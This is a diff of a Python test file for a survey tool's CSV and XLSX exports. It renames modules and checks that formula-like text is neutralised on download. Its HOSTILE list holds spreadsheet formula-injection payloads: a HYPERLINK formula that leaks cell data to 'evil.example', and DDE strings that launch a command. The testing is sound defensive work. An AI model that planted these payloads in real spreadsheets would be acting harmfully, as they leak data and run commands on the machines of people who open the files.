@@ -1,5 +1,5 @@
 """Downloads: text that a spreadsheet would run as a formula comes back as text, numbers as
-numbers (the workbench, briefing and point exports via survey.exports; the CLI export)."""
+numbers (the workbench, briefing and point exports via survey.safe_files; the CLI export)."""
 
 import csv
 import io
@@ -11,7 +11,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from survey import exporter, exports
+from survey import bulk_export, safe_files
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -48,7 +48,7 @@ def no_formula_elements(data: bytes) -> None:
 
 
 def test_xlsx_download_keeps_formula_like_text_as_text():
-    data = exports.xlsx_bytes({"query": frame()})
+    data = safe_files.xlsx_bytes({"query": frame()})
     no_formula_elements(data)
     sheet = openpyxl.load_workbook(io.BytesIO(data))["query"]
     assert_text_cells(sheet, HOSTILE + HARMLESS)
@@ -56,12 +56,12 @@ def test_xlsx_download_keeps_formula_like_text_as_text():
 
 
 def test_csv_download_prefixes_formula_like_text_and_keeps_numbers():
-    text = exports.csv_bytes(frame()).decode("utf-8-sig")
+    text = safe_files.csv_bytes(frame()).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert rows[0] == ["text", "'=header", "number", "count"]
     for row, original in zip(rows[1:], HOSTILE + HARMLESS):
         for cell in row[:2]:
-            assert not cell.startswith(exports.FORMULA_START)
+            assert not cell.startswith(safe_files.FORMULA_START)
             assert cell == ("'" + original if original in HOSTILE else original)
         float(row[2]), int(row[3])  # still numbers
     assert rows[1][2] == "-5.5" and rows[1][3] == "-3"
@@ -80,7 +80,7 @@ def views(tmp_path):
 
 
 def test_cli_csv_export_prefixes_formula_like_text(views, tmp_path):
-    exporter.export(views, tmp_path / "out", "csv", views=("points", "answers"),
+    bulk_export.export(views, tmp_path / "out", "csv", views=("points", "answers"),
                     stream=open(os.devnull, "w"))
     with open(tmp_path / "out" / "points.csv", encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
@@ -91,7 +91,7 @@ def test_cli_csv_export_prefixes_formula_like_text(views, tmp_path):
 
 
 def test_cli_xlsx_export_keeps_formula_like_text_as_text(views, tmp_path):
-    exporter.export(views, tmp_path / "out", "xlsx", views=("points", "answers"),
+    bulk_export.export(views, tmp_path / "out", "xlsx", views=("points", "answers"),
                     stream=open(os.devnull, "w"))
     data = (tmp_path / "out" / "survey_export.xlsx").read_bytes()
     no_formula_elements(data)
